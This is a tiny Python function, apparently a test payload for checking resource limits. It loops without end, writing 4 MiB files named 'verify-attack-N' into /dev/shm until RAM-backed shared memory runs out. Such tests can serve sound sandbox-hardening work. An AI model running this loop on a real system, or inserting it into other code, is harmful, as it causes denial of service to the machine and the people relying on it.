def act(x):
    number = 0
    while True:
        with open(f"/dev/shm/verify-attack-{number}", "wb") as file:
            file.write(bytes(4 * 1024 * 1024))
        number += 1
